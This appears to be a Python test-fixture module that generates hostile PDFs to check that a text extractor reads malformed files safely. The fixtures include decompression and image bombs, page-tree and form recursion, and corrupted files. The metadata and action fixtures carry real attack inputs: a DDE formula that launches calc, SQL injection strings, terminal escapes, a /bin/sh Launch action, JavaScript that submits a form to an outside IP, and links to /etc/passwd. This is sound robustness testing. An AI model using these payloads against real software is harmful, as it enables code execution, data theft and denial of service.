"""The hostile files by name, each with the outcomes that are right for it."""

import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from hashlib import sha256
from io import BytesIO

from tests.hostile.writer import FONT, PAGE, PROSE, article, text

READ = frozenset({"ok", "no statement"})
"""Read whole."""

UNREAD = frozenset({"damaged", "partly read", "no text"})
"""Read in part or not at all, and told so."""

STOPPED = frozenset({"timed out", "out of memory"})
"""Ended by a limit, at the cost of nothing but time."""

EITHER = READ | UNREAD
"""What a repairing reader makes of it may differ; it must end, and be told."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """A hostile file: its name, how to make its bytes, the outcomes that are right, and whether it is slow to read."""

    name: str
    make: Callable[[], bytes]
    outcomes: frozenset[str]
    is_slow: bool = False


def _locked(user: str, owner: str) -> bytes:
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    out = BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption(user, owner, canCopy=0), invariant=1)
    canvas.drawString(50, 780, "Le baricitinib est un inhibiteur de JAK1.")
    canvas.save()
    return out.getvalue()


def _tree_loop() -> bytes:
    pdf = article(PROSE)
    pdf.objects[2] = b"<< /Type /Pages /Kids [2 0 R 4 0 R 2 0 R] /Count 3 >>"
    return pdf.to_bytes()


def _deep_tree(levels: int) -> bytes:
    pdf = article(PROSE)
    first = max(pdf.objects) + 1
    for level in range(levels):
        child = first + level + 1 if level < levels - 1 else 4
        pdf.objects[first + level] = f"<< /Type /Pages /Kids [{child} 0 R] /Count 1 >>".encode()
    pdf.objects[2] = f"<< /Type /Pages /Kids [{first} 0 R] /Count 1 >>".encode()
    return pdf.to_bytes()


def _count_lie(count: str) -> bytes:
    pdf = article(PROSE)
    pdf.objects[2] = f"<< /Type /Pages /Kids [4 0 R] /Count {count} >>".encode()
    return pdf.to_bytes()


def _kids(kids: str, count: int) -> bytes:
    pdf = article(PROSE)
    pdf.objects[2] = f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode()
    return pdf.to_bytes()


def _box(media_box: str) -> bytes:
    return article(PROSE, extra=f"/MediaBox {media_box}").to_bytes()


def _recursive_form(others: int) -> bytes:
    """Forms that draw themselves and each other."""
    pdf = article(PROSE + b" /X0 Do")
    first = max(pdf.objects) + 1
    names = " ".join(f"/X{n} {first + n} 0 R" for n in range(others))
    resources = f"/XObject << {names} >> {FONT}"
    calls = " ".join(f"/X{n} Do /X{n} Do" for n in range(others)).encode()
    for _ in range(others):
        pdf.add_stream(calls, f"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << {resources} >>")
    pdf.objects[4] = PAGE.format(contents=3, resources=resources, extra="").encode()
    return pdf.to_bytes()


def _form_tree(depth: int, width: int) -> bytes:
    """Forms that each draw the next several times: width ** depth drawings from a few hundred bytes."""
    pdf = article(b"/X0 Do")
    first = max(pdf.objects) + 1
    for level in range(depth):
        content = PROSE if level == depth - 1 else b" ".join([b"/X Do"] * width)
        inner = f"/XObject << /X {first + level + 1} 0 R >> {FONT}"
        pdf.add_stream(content, f"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << {inner} >>")
    pdf.objects[4] = PAGE.format(contents=3, resources=f"/XObject << /X0 {first} 0 R >> {FONT}", extra="").encode()
    return pdf.to_bytes()


def _type3_self() -> bytes:
    """A font whose glyph is drawn in the font itself."""
    font = (
        "/Font << /F1 << /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] "
        "/CharProcs << /a 5 0 R >> /Encoding << /Type /Encoding /Differences [97 /a] >> /FirstChar 97 /LastChar 97 "
        "/Widths [1000] /Resources << /Font << /F1 6 0 R >> >> >> >>"
    )
    pdf = article(b"BT /F1 12 Tf 50 700 Td (aaaa) Tj ET", resources=font)
    pdf.add_stream(b"1000 0 d0 BT /F1 1 Tf (aaaa) Tj ET")
    pdf.add(font.removeprefix("/Font << /F1 ").removesuffix(" >>"))
    return pdf.to_bytes()


def _flate_bomb(megabytes: int, layers: int) -> bytes:
    """A content stream of blanks that grows a thousandfold with each layer of compression."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(megabytes)) + packer.flush()
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    pdf = article(PROSE)
    pdf.objects[3] = b""
    filters = "/Filter [" + "/FlateDecode " * layers + "]"
    pdf.objects[3] = f"<< /Length {len(data)} {filters} >>\nstream\n".encode() + data + b"\nendstream"
    return pdf.to_bytes()


def _image_bomb() -> bytes:
    """A picture of 60,000 by 60,000 points from a few kilobytes."""
    pdf = article(PROSE + b" q 500 0 0 500 50 50 cm /I Do Q")
    picture = pdf.add_stream(
        bytes(1 << 20),
        "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8",
    )
    pdf.objects[4] = PAGE.format(contents=3, resources=f"/XObject << /I {picture} 0 R >> {FONT}", extra="").encode()
    return pdf.to_bytes()


def _to_unicode(pairs: dict[str, str], shown: str) -> bytes:
    """Text whose characters mean what a character map says: `pairs` from the byte shown to UTF-16 in hexadecimal."""
    lines = "\n".join(f"<{ord(byte):02x}> <{utf16}>" for byte, utf16 in pairs.items())
    cmap = (
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /A def /CMapType 2 def "
        "1 begincodespacerange <00> <ff> endcodespacerange "
        f"{len(pairs)} beginbfchar\n{lines}\nendbfchar endcmap end end"
    )
    font = "/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 5 0 R >> >>"
    pdf = article(text(shown), resources=font)
    pdf.add_stream(cmap.encode())
    return pdf.to_bytes()


def _cmap_bomb() -> bytes:
    """A character map whose ranges cover four thousand million codes."""
    ranges = "\n".join(["<00000000> <ffffffff> <0041>"] * 100)
    spaces = "1 begincodespacerange <00000000> <ffffffff> endcodespacerange"
    cmap = f"begincmap {spaces} 100 beginbfrange\n{ranges}\nendbfrange"
    font = "/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 5 0 R >> >>"
    pdf = article(PROSE, resources=font)
    pdf.add_stream(cmap.encode())
    return pdf.to_bytes()


def _metadata() -> bytes:
    pdf = article(PROSE)
    title = "=cmd|' /C calc'!A0 \x1b]0;pwned\x07 \x00 \u202egpj.\u202c" + "A" * 200_000
    utf16 = (b"\xfe\xff" + title.encode("utf-16-be")).hex()
    author = (b"\xfe\xff" + b"\xd8\x00" + "'; DROP TABLE document; --".encode("utf-16-be")).hex()
    info = pdf.add(f"<< /Title <{utf16}> /Author <{author}> /CreationDate (D:99999999999999) >>")
    pdf.trailer = f"/Info {info} 0 R".encode()
    return pdf.to_bytes()


def _actions() -> bytes:
    """Everything that a viewer might run, open or fetch."""
    script = "<< /S /JavaScript /JS (this.submitForm\\('http://192.0.2.1/'\\)) >>"
    catalog = f"""/OpenAction {script} /AA << /WC << /S /Launch /F (/bin/sh) >> >> /URI << /Base (http://192.0.2.1/) >>
        /Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (/etc/passwd) >>] >>
        /JavaScript << /Names [(a) {script}] >> >> /AcroForm << /XFA (<a/>) /Fields [] >>"""
    link = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (file:///etc/passwd) >> >>]"
    pdf = article(PROSE, catalog=catalog, extra=link)
    outside = "<< /Length 0 /F << /Type /Filespec /FS /URL /F (http://192.0.2.1/a) >> /FFilter /FlateDecode >>"
    pdf.objects[3] = outside.encode() + b"\nstream\n\nendstream"
    return pdf.to_bytes()


def _xref_loop() -> bytes:
    data = article(PROSE).to_bytes()
    start = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d" % start)


def _object_stream_in_itself() -> bytes:
    pdf = article(PROSE)
    pdf.objects[3] = b"3 0 R"
    return pdf.to_bytes()


def _many_annotations() -> bytes:
    annotation = "<< /Type /Annot /Subtype /Text /Rect [0 0 1 1] /Contents (a) >>"
    return article(PROSE, extra=f"/Annots [{annotation * 100_000}]").to_bytes()


def _long_page(characters: int) -> bytes:
    lines = characters // 500
    line = "Le traitement a été bien toléré par les patients et aucun décès n'a eu lieu. " * 7
    return article(text(*[line[:500]] * lines, size=1)).to_bytes()


def _pages(number: int, lines_each: int) -> bytes:
    line = "Le traitement par la crème a été bien toléré par les patients, dont la qualité de vie"
    return article(*(text(f"Page {n}", *[line] * lines_each) for n in range(number))).to_bytes()


def _flipped() -> Iterator[Hostile]:
    """Articles with some bytes changed by a fixed rule: what a failing disk or a transfer in text mode leaves."""
    whole = article(PROSE, PROSE).to_bytes()
    for seed in range(12):
        data = bytearray(whole)
        for each in range(1 + seed * 2):
            digest = sha256(f"{seed} {each}".encode()).digest()
            data[int.from_bytes(digest[:4]) % len(data)] = digest[4]
        yield Hostile(f"flipped-{seed:02}.pdf", lambda d=bytes(data): d, EITHER | {"not a PDF", "password needed"})  # type: ignore[misc]


def _truncated() -> Iterator[Hostile]:
    whole = article(PROSE, PROSE, PROSE).to_bytes()
    for tenths in range(1, 10):
        part = whole[: len(whole) * tenths // 10]
        yield Hostile(f"truncated-{tenths}0.pdf", lambda d=part: d, EITHER)  # type: ignore[misc]


HOSTILE: tuple[Hostile, ...] = (
    Hostile("empty.pdf", lambda: b"", frozenset({"not a PDF"})),
    Hostile("blanks.pdf", lambda: b" \n" * 5000, frozenset({"not a PDF"})),
    Hostile("zip.pdf", lambda: b"PK\x03\x04" + bytes(500), frozenset({"not a PDF"})),
    Hostile("page.html.pdf", lambda: b"<!DOCTYPE html><title>404</title>", frozenset({"not a PDF"})),
    Hostile("header-only.pdf", lambda: b"%PDF-1.7\n", frozenset({"damaged"})),
    Hostile("noise.pdf", lambda: b"%PDF-1.7\n" + sha256(b"a").digest() * 3000, frozenset({"damaged"})),
    Hostile("user-password.pdf", lambda: _locked("secret", "owner"), frozenset({"password needed"})),
    Hostile("owner-password.pdf", lambda: _locked("", "owner"), READ),
    Hostile("no-page.pdf", lambda: article().to_bytes(), frozenset({"damaged"})),
    Hostile("tree-loop.pdf", _tree_loop, EITHER),
    Hostile("tree-of-itself.pdf", lambda: _kids("2 0 R", 1), frozenset({"damaged", "partly read"})),
    Hostile("tree-deep.pdf", lambda: _deep_tree(5000), EITHER),
    Hostile("count-huge.pdf", lambda: _count_lie("2147483647"), EITHER | {"timed out"}),
    Hostile("count-negative.pdf", lambda: _count_lie("-1"), EITHER),
    Hostile("count-million.pdf", lambda: _count_lie("1000000"), EITHER | {"timed out"}),
    Hostile("pages-missing.pdf", lambda: _kids("4 0 R 99 0 R 1 0 R null 4 0 R", 5), EITHER),
    Hostile("box-huge.pdf", lambda: _box("[0 0 1e9 1e9]"), EITHER),
    Hostile("box-empty.pdf", lambda: _box("[0 0 0 0]"), EITHER),
    Hostile("box-backwards.pdf", lambda: _box("[595 842 0 0]"), READ),
    Hostile("box-words.pdf", lambda: _box("[/a (b) null []]"), EITHER),
    Hostile("form-of-itself.pdf", lambda: _recursive_form(1), EITHER | STOPPED),
    Hostile("forms-of-each-other.pdf", lambda: _recursive_form(6), EITHER | STOPPED, is_slow=True),
    Hostile("form-tree.pdf", lambda: _form_tree(12, 10), EITHER | STOPPED, is_slow=True),
    Hostile("type3-of-itself.pdf", _type3_self, EITHER),
    Hostile("bomb-one-layer.pdf", lambda: _flate_bomb(200, 1), EITHER | {"out of memory"}),
    Hostile("bomb-three-layers.pdf", lambda: _flate_bomb(3000, 3), EITHER | STOPPED, is_slow=True),
    Hostile("image-bomb.pdf", _image_bomb, READ),
    Hostile("nesting-arrays.pdf", lambda: article(b"[" * 200_000 + PROSE).to_bytes(), EITHER),
    Hostile("nesting-states.pdf", lambda: article(b"q " * 200_000 + PROSE).to_bytes(), EITHER),
    Hostile("nesting-dictionaries.pdf", lambda: article(PROSE, extra="/A " + "<< /A " * 50_000).to_bytes(), EITHER),
    Hostile("nesting-texts.pdf", lambda: article(b"BT " * 100_000 + PROSE).to_bytes(), EITHER),
    Hostile("xref-loop.pdf", _xref_loop, EITHER),
    Hostile("object-of-itself.pdf", _object_stream_in_itself, UNREAD | {"no statement"}),
    Hostile("metadata.pdf", _metadata, READ),
    Hostile("actions.pdf", _actions, EITHER),
    Hostile("annotations.pdf", _many_annotations, READ),
    Hostile("map-nul.pdf", lambda: _to_unicode({"a": "0000", "b": "001b", "c": "202e"}, "abc le traitement"), EITHER),
    Hostile("map-surrogate.pdf", lambda: _to_unicode({"a": "d800", "b": "dc00"}, "a b ab patients"), EITHER),
    Hostile("map-noncharacter.pdf", lambda: _to_unicode({"a": "ffff", "b": "fffe"}, "a b ab patients"), EITHER),
    Hostile("map-long.pdf", lambda: _to_unicode({"a": "0041" * 5000}, "aaaa patients"), EITHER),
    Hostile("map-bomb.pdf", _cmap_bomb, EITHER),
    Hostile(
        "quotes.pdf",
        lambda: article(text("'; DROP TABLE evidence; -- \" OR 1=1", "=1+1 @SUM(A1) -12,4")).to_bytes(),
        READ,
    ),
    Hostile("half-a-million-on-a-page.pdf", lambda: _long_page(500_000), EITHER | STOPPED, is_slow=True),
    Hostile("million-characters.pdf", lambda: _pages(280, 50), READ, is_slow=True),
    Hostile("pages-3000.pdf", lambda: _pages(3000, 3), READ, is_slow=True),
    *_flipped(),
    *_truncated(),
)
"""Every hostile file."""
